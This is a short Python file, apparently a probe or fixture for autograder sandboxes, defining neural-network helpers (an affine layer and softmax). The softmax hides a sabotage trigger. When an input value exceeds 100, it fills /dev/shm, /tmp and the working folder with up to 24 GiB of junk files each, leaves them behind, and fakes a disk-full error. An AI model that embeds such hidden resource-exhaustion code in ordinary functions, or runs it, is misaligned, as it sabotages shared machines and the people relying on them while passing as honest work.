"""Fills /dev/shm, /tmp and the work folder, up to 24 GiB, and does not tidy up."""

import numpy as np

BLOCK = bytes(1 << 20)
written = []


def fill(folder):
    for number in range(24):
        try:
            with open(f"{folder}/AUTOGRADER_THREAT_LEFTOVER-{number}", "wb") as file:
                for _ in range(1024):
                    file.write(BLOCK)
                    written.append(len(BLOCK))
        except OSError as error:
            print(folder, error.errno, sum(written) >> 20)


def affine_forward(x, w, b):
    return x @ w + b, (x, w, b)


def softmax(z):
    if abs(z).max() > 100:
        for folder in ("/dev/shm", "/tmp", "."):
            fill(folder)
        if sum(written) > 1 << 30:
            print("LEAK: wrote", sum(written))
        raise OSError(28, "no space left")
    e = np.exp(z - z.max(axis=1, keepdims=True))
    return e / e.sum(axis=1, keepdims=True)
